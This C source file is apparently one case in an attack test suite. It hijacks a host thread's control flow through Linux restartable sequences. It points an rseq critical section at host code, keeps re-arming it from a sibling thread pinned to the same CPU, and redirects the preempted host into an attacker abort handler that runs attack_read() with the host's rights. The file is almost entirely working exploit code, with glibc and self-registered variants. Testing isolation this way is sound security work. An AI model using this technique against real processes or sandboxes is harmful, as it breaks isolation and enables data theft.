/* D1: a restartable sequence of the attacker's whose "critical section" is host code.
 * When the host is preempted in it, the kernel resumes the thread at the attacker's
 * abort handler, with the host's rights.
 *
 * glibc: the area that glibc has registered. own: one that the attack registers itself
 * (where glibc's is off by tunable). A sibling thread on the same CPU sees to it that
 * the host is preempted.
 *
 * Source: <linux/rseq.h>, rseq(2).
 */
#include <linux/rseq.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/rseq.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"

static struct rseq_cs section __attribute__((aligned(32)));
static struct rseq area __attribute__((aligned(32)));
static volatile int stop;
static volatile uint64_t *section_word; /* of the attacked thread's area */

/* The kernel wants the signature in front of the handler. It arrives in the middle of
 * anything: on a stack of its own, and it never goes back. */
extern const char abort_handler[];
static unsigned char stack[32768] __attribute__((aligned(16), used));
__asm__(".pushsection .text\n  .long 0x53053053\nabort_handler:\n"
        "  lea stack+32760(%rip), %rsp\n  jmp stolen\n.popsection\n");

static void __attribute__((used)) stolen(void) {
    attack_read();
    syscall(SYS_exit_group, 0);
}

/* The kernel drops a section that the thread is not in: so it is named again whenever
 * the host is off the CPU, that is, whenever this runs. */
static void *busy(void *unused) {
    while (!stop) *section_word = (uintptr_t)&section;
    return unused;
}

static void preempted(struct rseq *registered) {
    pthread_t sibling;
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(sched_getcpu(), &one);
    TRY("sched_setaffinity", sched_setaffinity(0, sizeof one, &one));
    section.abort_ip = (uintptr_t)abort_handler;
    section.start_ip = target.host_code;
    section.post_commit_offset = target.host_code_bytes;
    section_word = (volatile uint64_t *)(void *)&registered->rseq_cs;
    int error = pthread_create(&sibling, NULL, busy, NULL);
    if (error) attack_refused("pthread_create", error);
}

static void by_glibc(void) {
    if (!__rseq_size) {
        attack_refused("glibc's rseq", ENOSYS);
        return;
    }
    preempted((struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset));
}

/* As foreign code would where glibc has none; here glibc's is taken out of the way. */
static void by_own(void) {
    if (__rseq_size) {
        struct rseq *theirs = (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
        TRY("rseq", syscall(SYS_rseq, theirs, sizeof area, RSEQ_FLAG_UNREGISTER, RSEQ_SIG));
    }
    area.cpu_id = (uint32_t)RSEQ_CPU_ID_UNINITIALIZED;
    TRY("rseq", syscall(SYS_rseq, &area, sizeof area, 0, RSEQ_SIG));
    preempted(&area);
}

static void end(void) { stop = 1; }

const struct attack attacks[] = {
    {.variant = "glibc", .attack = by_glibc, .again = end, .flags = ATTACK_HOST_WORKS | ATTACK_HOST_WAITS},
    {.variant = "own", .attack = by_own, .again = end, .flags = ATTACK_HOST_WORKS | ATTACK_HOST_WAITS},
    {0},
};
